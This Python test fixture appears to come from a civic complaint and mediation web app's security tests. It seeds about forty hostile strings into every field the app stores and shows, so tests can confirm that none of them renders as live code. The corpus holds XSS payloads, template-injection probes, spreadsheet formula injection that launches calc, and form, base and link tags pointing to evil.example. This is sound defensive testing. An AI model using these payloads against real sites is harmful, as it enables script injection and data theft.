"""Words that want to be code, in every field there is: the registry's, residents', partners', workers' and clerks'."""

from datetime import datetime, timedelta
from itertools import cycle
from typing import Any

import asyncpg
import httpx
import msgspec
from msgspec import Struct

from consumers.sorter import Intake
from huiyin.convening import CONSOLE, Office
from huiyin.core import receipt as receipts
from huiyin.desk import Desk
from huiyin.rules.load import load_sorting_rules
from huiyin.store import dead
from huiyin.store.committees import Body
from huiyin.store.dead import Letter
from huiyin.store.vault import Seal, Sealed
from tests.web.conftest import RECEIPT_KEY, VAULT_KEY, People, Site
from tests.web.shots import jpeg, send
from tests.web.sightings import STREET, City

# Whatever becomes an element bears `data-xss`, so that it is found even where nothing of it runs.
CORPUS = (
    "<script data-xss>alert(1)</script>",
    '"><img data-xss src=x onerror=alert(2)>',
    "'><svg data-xss onload=alert(3)>",
    "</textarea><svg data-xss/onload=alert(4)>",
    "</title><b data-xss onclick=alert(5)>t</b>",
    "</script><script data-xss>alert(6)</script>",
    "</style><style data-xss>*{display:none}</style>",
    "</option></select><img data-xss src=x onerror=alert(8)>",
    "javascript:alert(9)//",
    "JaVaScRiPt&#58;alert(10)",
    "data:text/html,<script data-xss>alert(11)</script>",
    "{{ 91*91 }}${91*91}#{91*91}<%= 91*91 %>",
    "{% for a in config %}{{ a }}{% endfor %}",
    '" autofocus onfocus=alert(14) data-xss="',
    "' onmouseover=alert(15) data-xss='",
    "` onmouseover=alert(16) data-xss=`",
    "<div data-xss hx-get=/r hx-trigger=load hx-target=body>",
    "<p data-xss hx-on:load=alert(18) hx-on::load='alert(18)'>",
    "<hx-partial data-xss hx-target=body>19</hx-partial>",
    "<form data-xss action=//evil.example><input name=q>",
    '<iframe data-xss srcdoc="<script>alert(21)</script>">',
    "<base data-xss href=//evil.example/>",
    "<meta data-xss http-equiv=refresh content=0;//evil.example>",
    "<a data-xss href=javascript:alert(24)>24</a>",
    "<link data-xss rel=stylesheet href=//evil.example/x>",
    '<!--<i title="--><img data-xss src=x onerror=alert(26)>">',
    "<![CDATA[<i data-xss>]]><?xml <i data-xss>?>",
    "&lt;img data-xss src=x onerror=alert(28)&gt;",
    "\\u003cimg data-xss src=x onerror=alert(29)\\u003e",
    "\u202e</b data-xss>\u2066<i data-xss>\u2069\ufeff",
    "\uff1cscript data-xss\uff1ealert(31)\uff1c/script\uff1e",
    '=HYPERLINK("//evil.example";"x")',
    "=cmd|' /C calc'!A0",
    "<noscript><p title='</noscript><img data-xss src=x>'>",
    '"};alert(35);//{"a":"',
    "<xmp data-xss><plaintext data-xss>",
    "%3Cimg%20data-xss%20src=x%20onerror=alert(37)%3E",
    "%00<i data-xss\x1b[31m\x08>",
    "<math data-xss><mtext><a xlink:href=javascript:alert(39)>",
    "../../<object data-xss data=//evil.example>",
)
ALL = "\n".join(CORPUS)
LINE = " ".join(CORPUS)
PATH = "urn:x:<script data-xss>alert(1)</script>"


class Delivery(Struct):
    """A message as the stream delivers it, as far as the sorter looks at it."""

    data: bytes
    reply: str
    subject: str = "huiyin.intake.complaint"
    headers: dict[str, str] | None = None


async def names(admin: asyncpg.Connection) -> None:
    """The registry as somebody without a conscience would import it; before the room first looks at it."""
    words = cycle(CORPUS)
    for table, key in (("streets", "code"), ("communities", "code"), ("estates", "code"), ("buildings", "code")):
        for row in await admin.fetch(f"SELECT {key} FROM {table} ORDER BY 1"):
            rename = f"UPDATE {table} SET name = name || $2 WHERE {key} = $1"
            await admin.execute(rename, row[0], next(words))
    await admin.execute("UPDATE estates SET aliases = $1", [LINE])
    await admin.execute("UPDATE registry_version SET version = 'hostile'")  # another content is another version


class Town:
    """Everybody at their desks in a town of hostile words; `known` fills the addresses of its pages."""

    def __init__(self, site: Site, people: People, admin: asyncpg.Connection) -> None:
        self.city, self.site, self.admin, self._people = City(site, people), site, admin, people
        self.numbers: list[str] = []
        self._known: dict[str, str] = {}
        self._count = 0

    async def build(self) -> "Town":
        await names(self.admin)
        await self.city.sit()
        await self._people.seat(CORPUS[1], "grid_worker", "grid:990101001001001", "grid:990101001001001")
        await self._people.seat(CORPUS[0], "community", "community:990101001001", "community:990101001001")
        await self._dead()
        await self._events()
        await self._forms()
        await self._patrol()
        await self._orders()
        await self._said()
        await self._whistle()
        await self._mediation()
        await self._filters()
        self._known = await self._addresses()
        return self

    def known(self, name: str) -> dict[str, str]:
        """What the holes of the table's addresses stand for: a ticket, a post that somebody may see."""
        theirs = {"leader": self.others[0], "property": self.bins}.get(name, self.number)
        post = "community:990101001001" if name == "community" else f"street:{STREET}"
        mediated = self.mediations["street" if name == "street" else "community"]
        office = {"committee": "990101001001", "kind": "residents"}
        return {**self._known, **office, "number": theirs, "post": post, "mediation": mediated}

    def head(self, name: str) -> dict[str, str]:
        """Who asks, as a header: somebody of the city, or a resident who is a party of a mediation."""
        if name:
            return self.city.heads[name]
        return {"Cookie": "; ".join(f"{key}={value}" for key, value in self.cookies.items())}

    # -- what comes in ------------------------------------------------------------------------------------

    async def _sort(self, payload: bytes) -> str:
        """The sorter's own hands; a ticket's number."""
        room = self.site.room
        desk = Desk(room.engine, await room.rules(), load_sorting_rules().matters, RECEIPT_KEY)
        self._count += 1
        reply = f"$JS.ACK.INTAKE.sorter.1.{self._count}.{self._count}.0.0"
        intake = Intake(desk, await room.sorter(), Seal(VAULT_KEY), lambda: self.site.clock.now)
        await intake([Delivery(payload, reply)])  # type: ignore[list-item]
        number = await self.admin.fetchval("SELECT number FROM tickets ORDER BY number DESC LIMIT 1")
        return str(number)

    async def _events(self) -> None:
        """Each word once in every field of an event, and all of them in one complaint."""
        for n, word in enumerate(CORPUS):
            data = {
                "text": f"楼上漏水 {word}",
                "title": word,
                "place": dict.fromkeys(("estate", "building", "unit", "room", "address", "building_code"), word),
                "category": word,
                "reporter": {"name": word, "phone": word},
            }
            self.numbers.append(await self._event(word + str(n), data))
        place = {"building_code": "E1-B01", "room": CORPUS[0]}
        whole = {"text": ALL, "title": LINE[:200], "place": place, "category": "A01"}
        self.number = await self._event("all", whole)
        self.bins = await self._event("bins", whole | {"category": "C01"})
        self.others = [await self._event(f"more{n}", whole) for n in range(4)]

    async def _event(self, ident: str, data: dict[str, Any]) -> str:
        event = {"specversion": "1.0", "type": "huiyin.complaint.filed.v1", "source": PATH, "id": ident, "data": data}
        return await self._sort(msgspec.json.encode(event))

    async def _forms(self) -> None:
        """As a browser sends it; then the doorstep's complaint goes the way of all."""
        fields = ("estate", "building", "unit", "room", "name")
        said = {"text": ALL, "phone": CORPUS[8], **dict(zip(fields, CORPUS, strict=False))}
        answer = await send(self.site.http, "/file", said, [jpeg()])
        assert answer.status_code == 303, answer.text
        self.receipt = answer.headers["location"].removeprefix("/r/").partition("?")[0]
        row = await self.admin.fetchrow("SELECT key, body FROM vault.waiting ORDER BY seq DESC LIMIT 1")
        assert row is not None
        self.filed = await self._sort(Seal(VAULT_KEY).open(Sealed(row["key"], row["body"])))
        again = await send(self.site.http, f"/r/{self.receipt}/add", {"addition": LINE[:1_900], "key": "k"}, [])
        assert again.status_code == 303, again.text

    async def _patrol(self) -> None:
        said = {"id": "0" * 8 + "-0000-0000-0000-" + "0" * 12, "form": "2", "text": ALL, "where": CORPUS[1]}
        said |= {"handled": LINE[:900]}
        answer = await self.site.http.post("/patrol/findings", data=said, headers=self.city.heads["grid"])
        assert answer.status_code == 201, answer.text

    async def _dead(self) -> None:
        """Letters that name themselves in words of their own."""
        letters = [
            Letter("INTAKE", n, f"huiyin.{word}", word[:60], word, n, ALL.encode(), {word: word}, word, word)
            for n, word in enumerate(CORPUS, 1)
        ]
        await self.site.room.write(lambda c: dead.bury(c, Seal(VAULT_KEY), letters, self.site.clock.now))

    # -- what is done about it ----------------------------------------------------------------------------

    async def _give(self, who: str, number: str, order: str, body: Any = None) -> httpx.Response:
        answer = await self.city.give(who, f"/tickets/{number}/{order}", body)
        assert answer.status_code in (200, 201, 409), (order, answer.text)
        return answer

    async def _orders(self) -> None:
        """All that takes words, in the desks' own order."""
        for order, body in (
            ("sign", {}),
            ("contact", {"text": ALL}),
            ("note", {"text": ALL}),
            ("site-check", {"text": LINE}),
            ("dissuade", {"text": ALL, "place": CORPUS[1]}),
            ("hand-up", {"reason": "no-agreement", "text": ALL}),
        ):
            await self._give("leader", self.number, order, body)
        asked, objected, done, joined = self.others
        day = {"reason": "other", "review_at": "2027-01-15", "plan": ALL, "text": ALL}
        for order, body in (("sign", {}), ("shelve", day)):
            await self._give("leader", asked, order, body)
        await self._give("leader", objected, "object", {"reason": "wrong-place", "text": ALL})
        for order, body in (("sign", {}), ("contact", {}), ("resolve", {"evidence": ALL}), ("reply", {"text": ALL})):
            await self._give("leader", done, order, body)
        await self._give("leader", joined, "merge", {"into": asked})

    async def _said(self) -> None:
        """The last words: the resident's on the answer, on paper and in the log."""
        value = receipts.show(receipts.make(RECEIPT_KEY, PATH, "more2"))
        self.answered = value
        said = {"solved": "no", "satisfied": "1", "comment": LINE[:1_000]}
        answer = await self.site.http.post(f"/r/{value}/feedback", data=said)
        assert answer.status_code in (303, 409), answer.text
        notice = {"to": "property:E1", "text": ALL}
        found = await self.city.file("C01", "property")
        await self._give("community", found, "notice", notice)

    async def _whistle(self) -> None:
        """One that is called at once, with words in all that is said of it; another that waits for the street."""
        asks = [{"department": "department:城管", "text": ALL}]
        blown = {"kind": "emergency", "beyond": "other", "text": ALL, "asks": asks, "category": "B04", "apart": LINE}
        blown |= {"building_code": "E1-B01", "lat": 31.23, "lon": 121.47}
        numbers = []
        for who, kind in (("street", "emergency"), ("community", "daily")):
            answer = await self.city.give(who, "/whistles", blown | {"kind": kind})
            assert answer.status_code == 201, answer.text
            numbers.append(answer.json()["number"])
        self.whistle = numbers[0]
        for order, body in (
            ("acknowledge", {}),
            ("arrive", {}),
            ("progress", {"text": ALL}),
            ("object", {"reason": "other", "text": ALL}),
        ):
            answer = await self.city.give("department", f"/whistles/{self.whistle}/{order}", body)
            assert answer.status_code == 200, (order, answer.text)

    async def _mediation(self) -> None:
        """One that is as far as its draft, with words in all that is said of it; another of the street's desk."""
        person = str(await self.admin.fetchval("SELECT person FROM accounts WHERE username = 'mediator'"))
        self.mediations: dict[str, str] = {}
        for who, kind, place in (("street", "street", STREET), ("community", "residents", "990101001001")):
            body = Body(place, kind, who, LINE[:200])
            now = self.site.clock.now
            await self.site.room.write(lambda c, body=body, at=now: Office(c, body, at=at, actor=CONSOLE).keep())
            parties = [{"name": CORPUS[0], "applicant": True}, {"name": CORPUS[1], "phone": "13800000009"}]
            asked = {"text": ALL, "category": "A01", "parties": parties}
            answer = await self.city.give(who, "/mediations", asked)
            assert answer.status_code == 201, answer.text
            self.mediations[who], codes = answer.json()["number"], answer.json()["codes"]
        entered = await self.site.http.post("/mediation", data={"code": codes["p1"]})
        self.cookies = dict(entered.cookies)
        self.site.http.cookies.clear()
        for who, order, body_ in _mediated(person, self.site.clock.now):
            path = f"/mediations/{self.mediations['community']}/{order}"
            answer = await self.city.give(who, path, body_)
            assert answer.status_code == 200, (order, answer.text)

    async def _filters(self) -> None:
        for word in CORPUS[:20]:
            for who in ("community", "street", "auditor", "registrar", "grid"):
                form = {"name": word, "q": word, "open": "true"}
                answer = await self.site.http.post("/tickets/filters", data=form, headers=self.city.heads[who])
                assert answer.status_code == 303, answer.text

    async def _addresses(self) -> dict[str, str]:
        person = await self.admin.fetchval("SELECT person FROM accounts WHERE username = $1", CORPUS[1])
        letter = await self.admin.fetchval("SELECT min(id) FROM dead_letters")
        ref = await self.admin.fetchval("SELECT ref FROM vault.pictures LIMIT 1")
        return {
            "receipt": self.receipt,
            "whistle": self.whistle,
            "party": "p1",
            "paper": "notice.pdf",
            "community": "990101001001",
            "person": str(person),
            "ident": str(letter),
            "ref": str(ref),
        }


def _mediated(person: str, now: datetime) -> list[tuple[str, str, dict[str, Any]]]:
    """All that takes words, in the order of a case: who, which order, its body."""
    parties = ("p1", "p2")
    item = {"item": "i1", "owes": "p2", "owed": "p1", "text": ALL, "manner": "work", "until": "2027-01-15"}
    terms = dict.fromkeys(("facts", "issues", "responsibility", "content"), ALL)
    said = [{"party": party, "text": ALL} for party in parties]
    held = {"session": 1, "began": now.isoformat(), "present": parties, "minutes": ALL, "undisputed": [ALL]}
    return [
        ("community", "check", {}),
        *(("community", "consent", {"party": party, "how": "paper"}) for party in parties),
        ("community", "accept", {}),
        *(("community", "notify-rights", {"party": party, "how": "paper"}) for party in parties),
        ("community", "assign", {"person": person}),
        ("mediator", "disclose", {"text": ALL}),
        ("mediator", "plan", {"at": (now + timedelta(hours=1)).isoformat(), "venue": ALL}),
        ("mediator", "hold", {**held, "statements": said, "offers": said}),
        ("mediator", "confide", {"party": "p1", "text": ALL}),
        ("mediator", "plan", {"at": (now + timedelta(days=1)).isoformat(), "venue": ALL}),
        ("mediator", "draft", {"terms": {**terms, "items": [{**item, "place": CORPUS[0]}], "insist": True}}),
    ]
